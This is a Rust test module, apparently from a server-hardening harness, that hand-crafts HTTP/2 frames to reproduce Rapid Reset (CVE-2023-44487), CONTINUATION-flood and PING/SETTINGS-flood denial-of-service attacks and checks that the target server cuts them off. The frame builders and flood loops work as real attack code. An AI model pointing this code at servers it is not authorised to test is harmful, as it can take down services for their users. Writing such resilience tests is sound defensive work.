//! Attacks with frames of HTTP/2, made by hand: a proper client refuses to send them.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::wire::{Target, all_said, many};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET / HTTP/2` by indexed fields, and an authority (RFC 7541, appendix A).
const BLOCK: &[u8] = b"\x82\x86\x84\x41\x04weir";

/// How much one connection sends before it gives up.
const MOST: usize = 64 << 20;
const PATIENCE: Duration = Duration::from_secs(15);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Streams that are reset as soon as they are opened (CVE-2023-44487).
pub(super) async fn rapid_reset(target: Target) -> Result<String> {
    flood(target, |round| {
        let mut batch = Vec::new();
        for number in 0..500 {
            let stream = (round * 500 + number) * 2 + 1;
            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK));
            // CANCEL.
            batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        batch
    })
    .await
}

/// A head that goes on in frame after frame (CVE-2024-27316 and its like).
pub(super) async fn continuation(target: Target) -> Result<String> {
    // A literal field that is not indexed: name "x", and a value of 100 bytes.
    let mut field = b"\x00\x01x\x64".to_vec();
    field.extend([b'v'; 100]);
    let block = field.repeat(150);
    flood(target, move |round| {
        if round == 0 {
            return frame(HEADERS, 0, 1, BLOCK);
        }
        frame(CONTINUATION, 0, 1, &block)
    })
    .await
}

/// Frames that only have to be answered.
pub(super) async fn pings(target: Target) -> Result<String> {
    let batch = frame(PING, 0, 0, &[0; 8]).repeat(2_000);
    let settings = frame(SETTINGS, 0, 0, &[]).repeat(2_000);
    let said = many(8, move |number| {
        let batch = if number % 2 == 0 { batch.clone() } else { settings.clone() };
        async move {
            let mut stream = open(target).await?;
            // Nobody reads what they are answered with: the server may close, or stop reading. It may not pile it up.
            let mut sent = 0;
            while sent < MOST {
                match timeout(Duration::from_secs(1), stream.write_all(&batch)).await {
                    Ok(Ok(())) => sent += batch.len(),
                    Ok(Err(_)) => return Ok("closed".to_owned()),
                    Err(_) => return Ok("no longer read".to_owned()),
                }
            }
            Ok(format!("{} MiB taken", sent >> 20))
        }
    })
    .await?;
    all_said(&said, &["closed", "no longer read"])
}

/// Sends batches until the server says that it has had enough.
async fn flood(target: Target, batch: impl Fn(u32) -> Vec<u8> + Clone + Send + 'static) -> Result<String> {
    let said = many(8, move |_| {
        let batch = batch.clone();
        async move {
            let (mut read, mut write) = open(target).await?.into_split();
            let taken = Arc::<AtomicUsize>::default();
            let sent = Arc::clone(&taken);
            let sending = tokio::spawn(async move {
                for round in 0.. {
                    let bytes = batch(round);
                    if sent.load(Ordering::Relaxed) >= MOST || write.write_all(&bytes).await.is_err() {
                        return;
                    }
                    sent.fetch_add(bytes.len(), Ordering::Relaxed);
                }
            });
            let mut answer = Vec::new();
            let ended = timeout(PATIENCE, read.read_to_end(&mut answer)).await;
            sending.abort();
            let taken = taken.load(Ordering::Relaxed);
            ensure!(ended.is_ok() && taken < MOST, "{} MiB were taken and the connection goes on", taken >> 20);
            ending(&answer)
        }
    })
    .await?;
    all_said(&said, &["GOAWAY ENHANCE_YOUR_CALM", "GOAWAY", "closed"])
}

async fn open(target: Target) -> Result<TcpStream> {
    let mut stream = target.connect().await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(stream)
}

/// How the server ended the connection, by the frames that it sent.
fn ending(mut frames: &[u8]) -> Result<String> {
    while let Some((head, rest)) = frames.split_first_chunk::<9>() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let Some(payload) = rest.get(..length) else { break };
        if head[3] == GOAWAY {
            let code = payload.get(4..8).context("a GOAWAY without a code")?;
            return Ok(if code == [0, 0, 0, 11] { "GOAWAY ENHANCE_YOUR_CALM".to_owned() } else { "GOAWAY".to_owned() });
        }
        frames = &rest[length..];
    }
    Ok("closed".to_owned())
}
